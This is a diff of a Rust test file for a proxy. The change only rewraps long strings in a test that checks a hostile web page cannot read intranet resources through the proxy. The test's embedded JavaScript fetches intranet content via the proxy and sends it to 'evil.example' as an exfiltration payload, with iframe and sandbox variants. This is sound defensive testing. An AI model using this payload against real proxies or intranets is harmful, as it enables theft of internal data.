@@ -109,7 +109,8 @@ fn a_hostile_page_reads_nothing_through_the_proxy() {
         let read = |name: &str| {
             format!(
                 "fetch('http://{proxy}/http://{intranet}/{name}').then(answer => answer.text())\
-                 .then(text => fetch('http://evil.example:{port}/out?' + encodeURIComponent(text), {{mode: 'no-cors'}}))"
+                 .then(text => fetch('http://evil.example:{port}/out?' + encodeURIComponent(text), \
+                 {{mode: 'no-cors'}}))"
             )
         };
         let own = format!("http://{proxy}/http://127.0.0.1:{port}/evil.html");
@@ -117,11 +118,13 @@ fn a_hostile_page_reads_nothing_through_the_proxy() {
             "/evil.html" => page(&format!("<script>{}</script>", read("brought"))),
             "/" => page(&format!(
                 "<img src='http://{proxy}/http://{intranet}/image'>\
-                 <video autoplay src='http://{proxy}/http://{intranet}/video' referrerpolicy=no-referrer></video>\
+                 <video autoplay src='http://{proxy}/http://{intranet}/video' \
+                 referrerpolicy=no-referrer></video>\
                  <script src='http://{proxy}/http://{intranet}/script'></script>\
                  <iframe src='{own}'></iframe>\
                  <iframe sandbox='allow-scripts' srcdoc=\"<script>{}</script>\"></iframe>\
-                 <script>onload = () => {}.catch(() => 0).then(() => fetch('/tried')).then(() => location = '{own}')</script>",
+                 <script>onload = () => {}.catch(() => 0).then(() => fetch('/tried')).then(() => location = \
+                 '{own}')</script>",
                 read("sandboxed"),
                 read("fetched"),
             )),
